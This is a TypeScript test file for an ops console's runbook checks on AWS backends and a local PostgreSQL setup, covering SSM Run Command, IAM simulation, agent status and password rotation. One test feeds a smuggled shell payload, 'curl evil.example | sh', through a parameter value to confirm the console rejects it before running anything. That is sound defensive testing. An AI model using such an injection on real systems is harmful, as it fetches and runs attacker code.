import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DescribeInstancesCommand, EC2Client } from '@aws-sdk/client-ec2';
import { GetInstanceProfileCommand, IAMClient, SimulatePrincipalPolicyCommand } from '@aws-sdk/client-iam';
import { DescribeDBInstancesCommand, RDSClient } from '@aws-sdk/client-rds';
import { DescribeInstanceInformationCommand, DescribeParametersCommand, GetParametersCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { invalidateCache } from '@/lib/aws/cache';
import { tcpVerdictOf } from '@/lib/aws/run-command';
import { createAwsContext, createLocalContext, type AwsCheckContext, type CheckContext, type LocalCheckContext } from '@/lib/checks/context';
import { runChecks, type CheckDefinition } from '@/lib/checks/run';
import type { CheckResult } from '@/lib/checks/types';
import { awsEnvironmentSchema, localEnvironmentSchema, type AwsEnvironmentConfig, type LocalEnvironmentConfig } from '@/lib/config/schema';
import { acquireLock } from '@/lib/operations/lock';
import { backendAgentOnlineStep, backendRestartCountStep, backendRolePermissionsStep, backendTcpStep } from '@/lib/runbooks/steps/backend';
import { localEnvOverrideStep, localListeningStep, localUrlFormatStep } from '@/lib/runbooks/steps/local';
import { rotationPendingStep } from '@/lib/runbooks/steps/rotation';
import type { RunbookOnlyStepId } from '@/lib/runbooks/types';
import { fakeRunCommand } from '../support/run-command';

// Runbook-only step verdicts on answers the lab cannot produce on demand: odd Run Command output,
// IAM simulation denials, agents that vanished, denied and throttled calls. Every "could not find
// out" must be `error`, never `fail` or `pass`. Local steps run against real sockets.

const ssm = mockClient(SSMClient);
const ec2 = mockClient(EC2Client);
const iam = mockClient(IAMClient);
const rds = mockClient(RDSClient);

const I1 = 'i-0aaa1111';
const I2 = 'i-0bbb2222';
const ROLE = 'arn:aws:iam::123456789012:role/linkbox-backend-role';
const PROFILE = 'arn:aws:iam::123456789012:instance-profile/linkbox-backend-profile';

let envCounter = 0;
function awsEnv(): AwsEnvironmentConfig {
  // A fresh name each time: cached answers are keyed by environment, and each test sets its own.
  return awsEnvironmentSchema.parse({
    name: `unit-${++envCounter}`,
    kind: 'aws',
    region: 'eu-west-1',
    credentials: { source: 'lab' },
    endpoint: 'http://127.0.0.1:1',
    rdsInstanceId: 'linkbox-db',
    dbSecurityGroup: { tags: { Name: 'linkbox-db-sg' } },
    backendSecurityGroup: { tags: { Name: 'linkbox-backend-sg' } },
    backendInstances: { tags: { Name: 'linkbox-backend' } },
  });
}

/** A step run the way a diagnosis runs it: the one runner, on a run's readers. */
async function runStep<C extends CheckContext>(step: CheckDefinition<C, RunbookOnlyStepId>, ctx: C): Promise<CheckResult<RunbookOnlyStepId>> {
  const [result] = await runChecks([step], ctx, { dependencies: () => [] }).all;
  return result!;
}

function awsStep(step: CheckDefinition<AwsCheckContext, RunbookOnlyStepId>, budgetMs = 3000, env = awsEnv()) {
  return runStep(step, createAwsContext(env, { budgetMs, ttlMs: 0, fresh: true }));
}

function localStep(step: CheckDefinition<LocalCheckContext, RunbookOnlyStepId>, env: LocalEnvironmentConfig, budgetMs = 2000) {
  return runStep(step, createLocalContext(env, { budgetMs, ttlMs: 0, fresh: true }));
}

/** What our Run Command script prints: each question's output after its marker (lib/aws/run-command.ts). */
const MARK = '@@linkbox-ops-console:';
function ncOutput(text: string, open: boolean): string {
  return `${MARK}nc\n${text}\n${MARK}${open ? 'ok' : 'failed'}\n`;
}
function inspectOutput(text: string, failed = false): string {
  return `${MARK}inspect\n${text}\n${failed ? `${MARK}failed\n` : ''}`;
}

function instances(...list: Array<{ id: string; state?: string; profile?: string | null }>) {
  ec2.on(DescribeInstancesCommand).resolves({
    Reservations: [
      {
        Instances: list.map((i) => ({
          InstanceId: i.id,
          State: { Name: (i.state ?? 'running') as 'running' },
          PrivateIpAddress: '10.0.1.10',
          IamInstanceProfile: i.profile === null ? undefined : { Arn: i.profile ?? PROFILE },
          Tags: [{ Key: 'Name', Value: 'linkbox-backend' }],
        })),
      },
    ],
  });
}

function endpointParameter(value: string) {
  const arn = (name: string) => `arn:aws:ssm:eu-west-1:123456789012:parameter${name}`;
  ssm.on(GetParametersCommand).resolves({
    Parameters: [
      { Name: '/linkbox/db-endpoint', ARN: arn('/linkbox/db-endpoint'), Type: 'String', Value: value, Version: 1 },
      { Name: '/linkbox/db-username', ARN: arn('/linkbox/db-username'), Type: 'String', Value: 'linkbox', Version: 1 },
      { Name: '/linkbox/db-password', ARN: arn('/linkbox/db-password'), Type: 'SecureString', Value: 'ciphertext', Version: 1 },
      { Name: '/linkbox/db-name', ARN: arn('/linkbox/db-name'), Type: 'String', Value: 'linkbox', Version: 1 },
    ],
  });
  ssm.on(DescribeParametersCommand).resolves({ Parameters: [] });
}

function awsError(name: string, message = name) {
  return Object.assign(new Error(message), { name, $metadata: { httpStatusCode: 400 } });
}

let storeDir: string;
beforeAll(async () => {
  storeDir = await mkdtemp(join(tmpdir(), 'linkbox-runbooks-'));
  process.env.AUDIT_SQLITE_PATH = join(storeDir, 'console.sqlite');
});
afterAll(async () => {
  await rm(storeDir, { recursive: true, force: true });
});

beforeEach(() => {
  for (const m of [ssm, ec2, iam, rds]) m.reset();
  invalidateCache();
});

describe('backend.tcp (nc -zv from each backend instance)', () => {
  it('fails without sending any command when db-endpoint is not a host name, so SSM text never reaches a shell', async () => {
    instances({ id: I1 });
    endpointParameter('db.example.com; curl evil.example | sh');
    const out = await awsStep(backendTcpStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/not a host name/);
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('fails naming the instance whose nc is refused, and passes the others', async () => {
    instances({ id: I1 }, { id: I2 });
    endpointParameter('linkbox-db.abc.eu-west-1.rds.amazonaws.com');
    fakeRunCommand(ssm, {
      [I1]: { Status: 'Success', stdout: ncOutput('Connection to linkbox-db.abc.eu-west-1.rds.amazonaws.com 5432 port [tcp/postgresql] succeeded!', true) },
      [I2]: { Status: 'Success', stdout: ncOutput('nc: connect to linkbox-db.abc.eu-west-1.rds.amazonaws.com port 5432 (tcp) failed: Connection refused', false) },
    });
    const out = await awsStep(backendTcpStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/1 of 2/);
    expect(out.evidence[I1]).toBe('open');
    expect(out.evidence[I2]).toBe('refused');
    expect(out.fix?.commands?.join('\n')).toContain('nc -zv linkbox-db.abc.eu-west-1.rds.amazonaws.com 5432');
  });

  it('is error, not fail, when Run Command is denied to the console', async () => {
    instances({ id: I1 });
    endpointParameter('linkbox-db.abc.eu-west-1.rds.amazonaws.com');
    ssm.on(SendCommandCommand).rejects(awsError('AccessDeniedException', 'User is not authorized to perform: ssm:SendCommand'));
    const out = await awsStep(backendTcpStep);
    expect(out.status).toBe('error');
    expect(String(out.evidence[I1])).toMatch(/could not run/);
  });

  it('is error when nc prints something it cannot read as open, refused or timed out', async () => {
    instances({ id: I1 });
    endpointParameter('linkbox-db.abc.eu-west-1.rds.amazonaws.com');
    fakeRunCommand(ssm, { '*': { Status: 'Success', stdout: ncOutput('bash: nc: command not found', false) } });
    const out = await awsStep(backendTcpStep);
    expect(out.status).toBe('error');
  });

  it('is error when the command never finishes within the step budget', async () => {
    instances({ id: I1 });
    endpointParameter('linkbox-db.abc.eu-west-1.rds.amazonaws.com');
    fakeRunCommand(ssm, { '*': { Status: 'InProgress' } });
    const out = await awsStep(backendTcpStep, 800);
    expect(out.status).toBe('error');
    expect(out.summary).toMatch(/Could not/);
  });

  it('reads the answers of OpenBSD nc, traditional nc and ncat', () => {
    const v = (exitCode: number, text: string) => tcpVerdictOf(text, exitCode === 0);
    expect(v(0, 'Connection to db 5432 port [tcp/postgresql] succeeded!')).toBe('open');
    expect(v(0, 'db [10.0.2.15] 5432 (postgresql) open')).toBe('open');
    expect(v(1, 'nc: connect to db port 5432 (tcp) failed: Connection refused')).toBe('refused');
    expect(v(1, 'nc: connect to db port 5432 (tcp) timed out: Operation now in progress')).toBe('timed-out');
    expect(v(1, 'Ncat: TIMEOUT.')).toBe('timed-out');
    expect(v(1, 'nc: getaddrinfo for host "db" port 5432: Name or service not known')).toBe('unresolved');
    expect(v(2, 'Segmentation fault')).toBe('unknown');
  });
});

describe('backend.role-permissions (iam:SimulatePrincipalPolicy)', () => {
  function identity() {
    // The account comes from the parameters' ARNs, which the status reads anyway: no STS call.
    endpointParameter('linkbox-db.abc.eu-west-1.rds.amazonaws.com');
    iam.on(GetInstanceProfileCommand).resolves({
      InstanceProfile: {
        InstanceProfileName: 'linkbox-backend-profile',
        InstanceProfileId: 'AIPA1',
        Arn: PROFILE,
        Path: '/',
        CreateDate: new Date(),
        Roles: [{ RoleName: 'linkbox-backend-role', Arn: ROLE, RoleId: 'AROA1', Path: '/', CreateDate: new Date() }],
      },
    });
  }

  /** IAM answers every action × resource pair it was asked about, as SimulatePrincipalPolicy does. */
  function simulate(decide: (action: string, resource: string) => string) {
    iam.on(SimulatePrincipalPolicyCommand).callsFake((input: { ActionNames: string[]; ResourceArns: string[] }) => ({
      EvaluationResults: input.ActionNames.flatMap((a) => input.ResourceArns.map((r) => ({ EvalActionName: a, EvalResourceName: r, EvalDecision: decide(a, r) }))),
    }));
  }

  it('fails naming kms:Decrypt when the role may read the parameter but not decrypt it', async () => {
    instances({ id: I1 });
    identity();
    simulate((action) => (action === 'kms:Decrypt' ? 'implicitDeny' : 'allowed'));
    const out = await awsStep(backendRolePermissionsStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/not allowed kms:Decrypt/);
    expect(out.evidence.parameter).toBe('arn:aws:ssm:eu-west-1:123456789012:parameter/linkbox/db-password');
    expect(out.fix?.commands?.some((c) => c.includes('put-role-policy') && c.includes('linkbox-backend-role'))).toBe(true);
    const [simulated] = iam.commandCalls(SimulatePrincipalPolicyCommand).map((c) => c.args[0].input);
    expect(simulated?.ActionNames).toEqual(['ssm:GetParameter', 'kms:Decrypt']);
    expect(simulated?.ResourceArns).toContain('arn:aws:ssm:eu-west-1:123456789012:parameter/linkbox/db-password');
  });

  it('says "explicitly denied" for an explicit deny', async () => {
    instances({ id: I1 });
    identity();
    simulate((action) => (action === 'ssm:GetParameter' ? 'explicitDeny' : 'allowed'));
    const out = await awsStep(backendRolePermissionsStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/explicitly denied ssm:GetParameter/);
  });

  it('fails for an instance without an instance profile', async () => {
    instances({ id: I1, profile: null });
    identity();
    const out = await awsStep(backendRolePermissionsStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(`${I1} has no instance profile`);
  });

  it('is error, not fail, when the console may not simulate policies', async () => {
    instances({ id: I1 });
    identity();
    iam.on(SimulatePrincipalPolicyCommand).rejects(awsError('AccessDenied', 'not authorized to perform: iam:SimulatePrincipalPolicy'));
    const out = await awsStep(backendRolePermissionsStep);
    expect(out.status).toBe('error');
    expect(out.evidence.reason).toBe('denied');
  });

  it('passes when both actions are allowed', async () => {
    instances({ id: I1 }, { id: I2 });
    identity();
    simulate(() => 'allowed');
    const out = await awsStep(backendRolePermissionsStep);
    expect(out.status).toBe('pass');
    // Two instances, one role: one simulation with every action.
    expect(iam.commandCalls(SimulatePrincipalPolicyCommand)).toHaveLength(1);
  });
});

describe('backend.agent-online (DescribeInstanceInformation)', () => {
  it('fails for an instance missing from the list and one whose agent lost its connection', async () => {
    instances({ id: I1 }, { id: I2 }, { id: 'i-0ccc3333' });
    ssm.on(DescribeInstanceInformationCommand).resolves({
      InstanceInformationList: [
        { InstanceId: I1, PingStatus: 'Online' },
        { InstanceId: I2, PingStatus: 'ConnectionLost' },
      ],
    });
    const out = await awsStep(backendAgentOnlineStep);
    expect(out.status).toBe('fail');
    expect(out.evidence).toMatchObject({ [I1]: 'Online', [I2]: 'ConnectionLost', 'i-0ccc3333': 'not registered' });
  });

  it('skips stopped instances: no agent is expected there', async () => {
    instances({ id: I1 }, { id: I2, state: 'stopped' });
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: I1, PingStatus: 'Online' }] });
    const out = await awsStep(backendAgentOnlineStep);
    expect(out.status).toBe('pass');
  });

  it('is error when DescribeInstanceInformation is throttled', async () => {
    instances({ id: I1 });
    ssm.on(DescribeInstanceInformationCommand).rejects(awsError('ThrottlingException', 'Rate exceeded'));
    const out = await awsStep(backendAgentOnlineStep);
    expect(out.status).toBe('error');
    expect(out.evidence.reason).toBe('throttled');
  });
});

describe('backend.restart-count (docker inspect, shared with containers.running)', () => {
  function inspect(byInstance: Record<string, { stdout?: string; stderr?: string; status?: string }>) {
    fakeRunCommand(
      ssm,
      Object.fromEntries(
        Object.entries(byInstance).map(([id, a]) => [id, { Status: a.status ?? 'Success', stdout: a.stdout === undefined ? '' : inspectOutput(a.stdout, a.status === 'Failed'), stderr: a.stderr }]),
      ),
    );
  }
  const container = (status: string, restarts: number, exitCode = 0) =>
    JSON.stringify({ status, restarts, startedAt: '2026-11-27T10:00:00Z', finishedAt: '0001-01-01T00:00:00Z', exitCode, image: 'linkbox:1', error: '' });

  it('warns on a running container that keeps restarting', async () => {
    instances({ id: I1 });
    inspect({ [I1]: { stdout: container('running', 7) } });
    const out = await awsStep(backendRestartCountStep);
    expect(out.status).toBe('warn');
    expect(out.summary).toMatch(/keeps restarting/);
  });

  it('fails on an exited container and gives the deploy scripts to start it again', async () => {
    instances({ id: I1 });
    inspect({ [I1]: { stdout: container('exited', 1, 137) } });
    const out = await awsStep(backendRestartCountStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/exit 137/);
    expect(out.fix?.commands?.join('\n')).toMatch(/start_application\.sh/);
  });

  it('is error when docker inspect cannot be read', async () => {
    instances({ id: I1 });
    inspect({ [I1]: { status: 'Failed', stdout: 'permission denied while trying to connect to the Docker daemon socket' } });
    const out = await awsStep(backendRestartCountStep);
    expect(out.status).toBe('error');
  });
});

describe('rotation.pending', () => {
  function db(status = 'available', pending: Record<string, string> = {}) {
    rds.on(DescribeDBInstancesCommand).resolves({
      DBInstances: [{ DBInstanceIdentifier: 'linkbox-db', DBInstanceStatus: status, PendingModifiedValues: pending, MasterUsername: 'linkbox' }],
    });
  }
  function pendingSlot(exists: boolean) {
    endpointParameter('linkbox-db.abc.eu-west-1.rds.amazonaws.com');
    ssm.on(DescribeParametersCommand).resolves({
      Parameters: exists ? [{ Name: '/linkbox/db-password-pending', Type: 'SecureString', Version: 1, LastModifiedDate: new Date('2026-11-27T09:00:00Z') }] : [],
    });
  }

  it('fails on a pending password nobody is working on: a rotation stopped half-way', async () => {
    db();
    pendingSlot(true);
    const out = await awsStep(rotationPendingStep);
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/stopped half-way/);
    expect(out.fix?.summary).toMatch(/rotate/);
  });

  it('warns, not fails, while a rotation holds the lock', async () => {
    const env = awsEnv();
    db('resetting-master-credentials', { MasterUserPassword: '****' });
    pendingSlot(true);
    const taken = await acquireLock(env.name, 'rotation', 'rot-1', 'operator@linkbox.lab');
    expect(taken.ok).toBe(true);
    try {
      const out = await awsStep(rotationPendingStep, 3000, env);
      expect(out.status).toBe('warn');
      expect(out.summary).toMatch(/operator@linkbox\.lab/);
    } finally {
      if (taken.ok) await taken.lock.release();
    }
  });

  it('warns on an RDS password change the console did not start', async () => {
    db('resetting-master-credentials', { MasterUserPassword: '****' });
    pendingSlot(false);
    const out = await awsStep(rotationPendingStep);
    expect(out.status).toBe('warn');
    expect(out.summary).toMatch(/did not start/);
  });

  it('passes with no pending slot and nothing pending in RDS', async () => {
    db();
    pendingSlot(false);
    expect((await awsStep(rotationPendingStep)).status).toBe('pass');
  });
});

describe('runbook steps under the runner', () => {
  it('turn a throttled read into error with the reason, never a verdict', async () => {
    instances({ id: I1 });
    ssm.on(DescribeInstanceInformationCommand).rejects(awsError('ThrottlingException', 'Rate exceeded'));
    const out = await awsStep(backendAgentOnlineStep, 1000);
    expect(out.status).toBe('error');
    expect(out.evidence.reason).toBe('throttled');
  });

  it('turn a step that outlives its budget into error', async () => {
    instances({ id: I1 });
    ssm.on(DescribeInstanceInformationCommand).callsFake(() => new Promise(() => {}));
    const out = await awsStep(backendAgentOnlineStep, 200);
    expect(out).toMatchObject({ status: 'error', evidence: { reason: 'timeout' } });
  });
});

describe('local steps (real sockets, a real .env file)', () => {
  let dir: string;
  let listener: ReturnType<typeof createServer>;
  let openPort: number;
  let closedPort: number;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'linkbox-local-runbook-'));
    // Answers PostgreSQL's SSLRequest with "N", as a server without TLS does.
    listener = createServer((s) => s.once('data', () => s.write('N')));
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    openPort = (listener.address() as AddressInfo).port;
    const probe = createServer();
    await new Promise<void>((r) => probe.listen(0, '127.0.0.1', r));
    closedPort = (probe.address() as AddressInfo).port;
    await new Promise<void>((r) => probe.close(() => r()));
  });
  afterAll(async () => {
    await new Promise<void>((r) => listener.close(() => r()));
    await rm(dir, { recursive: true, force: true });
  });

  async function localEnv(envText: string | null, defaultPort = openPort): Promise<LocalEnvironmentConfig> {
    const envFile = join(dir, `${Math.random().toString(36).slice(2)}.env`);
    if (envText !== null) await writeFile(envFile, envText);
    return localEnvironmentSchema.parse({
      name: 'local',
      kind: 'local',
      envFile,
      defaultDatabaseUrl: `postgresql://linkbox_user:linkbox_password@127.0.0.1:${defaultPort}/linkbox_dev`,
    });
  }

  it('fails "nothing listens" with the docker-compose commands when the port refuses', async () => {
    const out = await localStep(localListeningStep, await localEnv(null, closedPort));
    expect(out.status).toBe('fail');
    expect(out.summary).toMatch(/refused/);
    expect(out.fix?.commands).toEqual(['cd backend', 'docker-compose ps', 'docker-compose logs db', 'docker-compose up -d db']);
  });

  it('passes when PostgreSQL answers at the URL in use', async () => {
    const out = await localStep(localListeningStep, await localEnv(null));
    expect(out.status).toBe('pass');
  });

  it('warns that .env overrides the default, naming what differs, with the password masked', async () => {
    const env = await localEnv(`DATABASE_URL=postgresql://linkbox_user:Hunter2-secret@db:5433/linkbox_dev\n`);
    const out = await localStep(localEnvOverrideStep, env);
    expect(out.status).toBe('warn');
    expect(out.summary).toMatch(/host db instead of 127\.0\.0\.1, port 5433 instead of/);
    expect(JSON.stringify(out)).not.toContain('Hunter2-secret');
  });

  it('fails a malformed DATABASE_URL and says what is wrong without echoing the password', async () => {
    const env = await localEnv('DATABASE_URL=postgres://linkbox_user:pa@ss@localhost:5432\n');
    const out = await localStep(localUrlFormatStep, env);
    expect(out.status).toBe('fail');
    expect(JSON.stringify(out)).not.toContain('pa@ss');
  });
});
